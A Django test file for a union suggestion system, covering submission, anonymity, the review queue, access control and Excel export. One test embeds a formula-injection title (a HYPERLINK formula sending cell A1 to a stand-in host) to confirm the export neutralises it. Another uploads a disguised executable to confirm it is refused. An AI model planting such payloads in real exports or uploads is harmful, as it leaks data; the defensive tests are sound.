"""The suggestion loop end to end: the member submits, the cadre answers, the member closes it."""

import datetime as dt

import pytest
from django.core.exceptions import ValidationError

from gonghui.core.scoping import NotAllowed
from gonghui.core.history import HistoryEntry, history_for
from gonghui.core.models import Notice
from gonghui.voice import services
from gonghui.voice.choices import SuggestionStatus
from gonghui.voice.models import Suggestion
from gonghui.voice.selectors import suggestion_figures

from .factories import png, suggestion, theme

pytestmark = pytest.mark.django_db


def test_a_member_submits_a_suggestion_from_the_phone_page(cast, client_as):
    client = client_as(cast.member)
    t = theme(cast)
    page = client.get("/voice/suggest/")
    assert page.status_code == 200 and "安全管理" in page.content.decode()
    response = client.post("/voice/suggest/", {"title": "天车加装防撞装置", "body": "避免碰撞", "theme": t.pk,
                                               "idempotency_key": "k1", "photo": png()})
    made = Suggestion.objects.get()
    assert response.status_code == 302 and response["Location"] == f"/voice/suggestions/{made.pk}/"
    assert made.author == cast.member_record and made.theme == t and made.photo
    assert client.get(f"/voice/suggestions/{made.pk}/photo/").status_code == 200
    assert "天车加装防撞装置" in client.get("/voice/").content.decode()


def test_a_double_submit_creates_one_suggestion(cast, client_as):
    client = client_as(cast.member)
    for _ in range(2):
        client.post("/voice/suggest/", {"title": "同一条", "body": "点了两次", "idempotency_key": "same-key"})
    assert Suggestion.objects.count() == 1


def test_bad_input_gets_a_clear_error(cast, client_as):
    client = client_as(cast.member)
    response = client.post("/voice/suggest/", {"title": "", "body": "", "idempotency_key": "x"})
    assert response.status_code == 200 and Suggestion.objects.count() == 0
    assert "errorlist" in response.content.decode()


@pytest.mark.parametrize("name,content,ctype", [
    ("a.gif", b"GIF89a", "image/gif"),
    ("a.png", b"not an image at all", "image/png"),
    ("a.exe.png", b"MZ\x90\x00", "image/png"),
])
def test_a_photo_must_be_a_real_jpg_png_or_webp(cast, name, content, ctype):
    with pytest.raises(ValidationError):
        suggestion(cast, photo=png(name, content, ctype))
    assert Suggestion.objects.count() == 0


def test_a_photo_over_five_megabytes_is_refused(cast):
    with pytest.raises(ValidationError):
        suggestion(cast, photo=png(content=b"\x89PNG\r\n\x1a\n" + b"0" * (5 * 1024 * 1024 + 1)))


def test_an_anonymous_suggestion_keeps_no_link_to_its_author(cast, client_as):
    client = client_as(cast.member)
    response = client.post("/voice/suggest/", {"title": "关于班组考核的意见", "body": "关于班组考核", "anonymous": "on", "idempotency_key": "anon-1"})
    made = Suggestion.objects.get()
    code = response.context["receipt"]
    assert code and code in response.content.decode()
    assert made.author_id is None and made.is_anonymous
    # Filed neither at the member's small team (甲班) nor at its branch, which has fewer than ten on the
    # roll too: at the union (see test_anonymity.py for a branch large enough to show).
    assert made.org == cast.union
    # Nothing in the row or its history names the member or their login.
    from django.contrib.auth import get_user_model

    from gonghui.members.models import Member

    row = Suggestion.objects.filter(pk=made.pk).values().get()
    person_columns = [f.attname for f in Suggestion._meta.concrete_fields
                      if f.is_relation and f.related_model in (Member, get_user_model())]
    assert person_columns == ["author_id"] and row["author_id"] is None
    for value in row.values():
        assert not (isinstance(value, str) and (cast.member_record.name in value or cast.member.username in value))
    for entry in history_for(made):
        assert entry.actor_id is None
        assert cast.member_record.name not in str(entry.changes) and cast.member.username not in str(entry.changes)
    assert not Notice.objects.filter(recipient=cast.member).exists()
    # It does not show among the member's own suggestions, and the member cannot open it by id.
    assert "关于班组考核的意见" not in client.get("/voice/").content.decode()
    assert client.get(f"/voice/suggestions/{made.pk}/").status_code == 404


def test_a_retried_anonymous_submit_shows_the_same_receipt_and_makes_one_record(cast):
    first, code1 = services.suggestion_submit(actor=cast.member, author=cast.member_record, title="t", body="b", anonymous=True, idempotency_key="r")
    again, code2 = services.suggestion_submit(actor=cast.member, author=cast.member_record, title="t", body="b", anonymous=True, idempotency_key="r")
    assert first.pk == again.pk and code1 == code2 and Suggestion.objects.count() == 1


def test_anyone_with_the_receipt_code_reads_the_answer_and_can_rate_and_reopen(cast, client):
    made, code = services.suggestion_submit(actor=cast.member, author=cast.member_record, title="匿名", body="b", anonymous=True)
    services.suggestion_decide(actor=cast.chair, suggestion=made, adopt=True, answer="采纳，交设备室落实")
    services.suggestion_implement(actor=cast.chair, suggestion=made)
    page = client.get("/voice/receipt/", {"code": code.lower().replace("-", "")})
    assert page.status_code == 200 and "交设备室落实" in page.content.decode()
    client.post("/voice/receipt/", {"code": code, "action": "reopen", "reason": "现场没有改"})
    made.refresh_from_db()
    assert made.status == SuggestionStatus.ADOPTED and made.reopen_count == 1
    assert HistoryEntry.objects.filter(object_id=str(made.pk), actor__isnull=False).count() == 2  # only the chair's steps
    assert client.get("/voice/receipt/", {"code": "AAAA-BBBB-CCCC"}).context["not_found"]


def test_the_cadre_works_the_queue_and_the_member_is_told_at_each_step(cast, client_as):
    made = suggestion(cast)
    chair = client_as(cast.chair)
    assert made.title in chair.get("/voice/suggestions/").content.decode()
    for action, data in [("review", {}), ("decide", {"adopt": "1", "answer": ""}), ("assign", {"unit": "设备管理室"}),
                         ("implement", {"implemented_on": "2025-05-01", "saving_yuan": "60000", "reward_yuan": "500"}),
                         ("promote", {})]:
        assert chair.post(f"/voice/suggestions/{made.pk}/{action}/", data).status_code == 302
    made.refresh_from_db()
    assert made.status == SuggestionStatus.IMPLEMENTED and made.is_golden and made.saving_yuan == 60000
    assert Notice.objects.filter(recipient=cast.member).count() == 6  # received + five steps
    assert history_for(made).count() == 6


def test_a_rejection_needs_a_reason(cast, client_as):
    made = suggestion(cast)
    client_as(cast.chair).post(f"/voice/suggestions/{made.pk}/decide/", {"adopt": "0", "answer": ""})
    made.refresh_from_db()
    assert made.status == SuggestionStatus.SUBMITTED
    services.suggestion_decide(actor=cast.chair, suggestion=made, adopt=False, answer="与现行标准冲突")
    assert made.status == SuggestionStatus.REJECTED


def test_the_author_rates_and_reopens_and_the_reopened_one_counts(cast, client_as):
    made = suggestion(cast)
    services.suggestion_decide(actor=cast.chair, suggestion=made, adopt=True, answer="")
    services.suggestion_implement(actor=cast.chair, suggestion=made)
    member = client_as(cast.member)
    member.post(f"/voice/suggestions/{made.pk}/rate/", {"rating": "dissatisfied"})
    member.post(f"/voice/suggestions/{made.pk}/reopen/", {"reason": "没落实"})
    made.refresh_from_db()
    assert made.reopen_count == 1 and made.status == SuggestionStatus.ADOPTED
    assert suggestion_figures(org=cast.union, start=dt.date(2025, 1, 1), end=dt.date(2025, 12, 31)).reopened == 1


def test_a_member_cannot_work_the_queue(cast, client_as):
    made = suggestion(cast)
    member = client_as(cast.member)
    assert member.get("/voice/suggestions/").status_code == 404
    assert member.post(f"/voice/suggestions/{made.pk}/decide/", {"adopt": "1"}).status_code == 404
    made.refresh_from_db()
    assert made.status == SuggestionStatus.SUBMITTED


def test_an_outsider_reaches_none_of_it(cast, client_as):
    made = suggestion(cast, photo=png())
    outsider = client_as(cast.outsider)
    assert made.title not in outsider.get("/voice/suggestions/").content.decode()
    for url in (f"/voice/suggestions/{made.pk}/", f"/voice/suggestions/{made.pk}/photo/"):
        assert outsider.get(url).status_code == 404
    assert outsider.post(f"/voice/suggestions/{made.pk}/review/").status_code == 404
    assert outsider.get(f"/voice/suggestions/?org={cast.union.pk}").status_code == 404
    assert services.suggestion_review.__name__ and made.status == SuggestionStatus.SUBMITTED
    with pytest.raises(NotAllowed):
        services.suggestion_review(actor=cast.outsider, suggestion=made)


def test_the_queue_exports_to_excel_with_the_same_filters(cast, client_as):
    import io

    from openpyxl import load_workbook

    suggestion(cast, title="甲建议")
    other = suggestion(cast, title="乙建议", key="2")
    services.suggestion_decide(actor=cast.chair, suggestion=other, adopt=False, answer="理由")
    response = client_as(cast.chair).get("/voice/suggestions/", {"status": "rejected", "format": "xlsx"})
    rows = list(load_workbook(io.BytesIO(response.content)).active.values)
    assert len(rows) == 2 and rows[1][1] == "乙建议"



def test_a_title_written_as_a_formula_reaches_the_export_as_plain_text(cast, client_as):
    import io

    from openpyxl import load_workbook

    title = '=HYPERLINK("http://example.invalid/?"&A1,"点此查看")'
    suggestion(cast, title=title)
    response = client_as(cast.chair).get("/voice/suggestions/", {"format": "xlsx"})
    cell = load_workbook(io.BytesIO(response.content)).active["B2"]
    assert (cell.value, cell.data_type) == (title, "s")  # text, not a formula Excel would run

def test_the_queue_page_runs_a_fixed_number_of_queries(cast, client_as, django_assert_max_num_queries):
    for i in range(30):
        suggestion(cast, title=f"建议{i}", key=str(i), theme=theme(cast))
    client = client_as(cast.chair)
    client.get("/voice/suggestions/")
    with django_assert_max_num_queries(14):
        assert client.get("/voice/suggestions/").status_code == 200
